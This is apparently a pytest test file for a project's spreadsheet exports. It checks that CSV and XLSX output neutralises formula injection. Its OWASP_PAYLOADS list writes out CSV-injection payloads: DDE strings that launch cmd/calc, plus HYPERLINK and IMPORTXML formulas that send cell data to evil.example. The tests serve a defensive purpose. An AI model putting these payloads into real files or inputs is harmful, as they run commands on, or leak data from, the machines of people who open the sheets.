"""Safe exports: no cell of a CSV or XLSX the project writes is read as a formula."""

import csv
import io
from datetime import date, timedelta

from openpyxl import load_workbook

from core.clock import utcnow
from core.spreadsheets import FORMULA_STARTS, csv_text, safe_cell, unguard_text, xlsx_bytes
from roster.services.imports import export_officials, import_officials
from tests.api.conftest import world  # noqa: F401  (the fixture)
from tests.conftest import login
from tests.factories import make_official

#: The payloads of OWASP's "CSV Injection" page, and the variants it warns about.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "=1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(cmd|'/c calc'!A0)",
    "\uff1d1+1",
]


def reads_as_formula(text) -> bool:
    """Whether a spreadsheet would take a cell's text as a formula (LibreOffice and Excel)."""
    return isinstance(text, str) and text.lstrip(" \u00a0")[:1] in tuple(FORMULA_STARTS)


def test_every_owasp_payload_is_neutralised_and_numbers_stay_numbers():
    for payload in OWASP_PAYLOADS:
        assert reads_as_formula(payload)
        assert not reads_as_formula(safe_cell(payload)), payload
        assert safe_cell(payload).endswith(payload)
        assert unguard_text(safe_cell(payload)) == payload
    for value in (-5, 3.5, 0, True, date(2026, 3, 2), None):
        assert safe_cell(value) == value
    assert safe_cell("ул. Ленина, 1") == "ул. Ленина, 1"
    assert safe_cell("-") == "'-"


def test_csv_and_xlsx_have_text_for_payloads_and_numbers_for_numbers():
    rows = [[payload, -7, 2.5] for payload in OWASP_PAYLOADS]
    parsed = list(csv.reader(io.StringIO(csv_text(["text", "n", "x"], rows))))
    assert [row[1] for row in parsed[1:]] == ["-7"] * len(rows)
    assert not any(reads_as_formula(row[0]) for row in parsed)
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("T", ["text", "n", "x"], rows)]))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet.cell(row, 2).value for row in range(2, len(rows) + 2)] == [-7] * len(rows)
    assert {sheet.cell(row, 1).data_type for row in range(1, len(rows) + 2)} == {"s"}


def test_a_managers_export_of_appeals_sent_with_payloads_runs_nothing(client, world):  # noqa: F811
    for payload in OWASP_PAYLOADS:
        answer = client.post(
            "/api/v1/appeals",
            json={"text": payload, "category": "roads", "municipality": "tula", "address": payload},
            headers=world.tokens["operator"],
        )
        assert answer.status_code == 201, answer.json
    login(client, "manager")
    today = utcnow().date()  # the region's day may be the next or the previous one
    week = {
        "from": (today - timedelta(days=1)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
    }
    book = load_workbook(
        io.BytesIO(client.get("/reports/appeals", query_string=week | {"format": "xlsx"}).data)
    )
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    addresses = [cell.value for cell in cells if cell.column == 5 and cell.row > 1]
    assert len(addresses) >= len(OWASP_PAYLOADS) - 3  # the API trims leading spaces and tabs
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if reads_as_formula(cell.value)]
    exported = client.get("/reports/appeals", query_string=week | {"format": "csv"})
    parsed = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert any("HYPERLINK" in cell for row in parsed for cell in row)
    assert not [cell for row in parsed for cell in row if reads_as_formula(cell)]


def test_the_officials_export_guards_phones_and_imports_back_unchanged(app, world):  # noqa: F811
    make_official(world.tula, "+79160000001", name="=1+1 Иванов")
    text = export_officials([world.tula])
    assert "'+79160000001" in text and "'=1+1 Иванов" in text
    report = import_officials(text, dry_run=True)
    assert not report.errors
    assert {change.action for change in report.changes} == {"unchanged"}
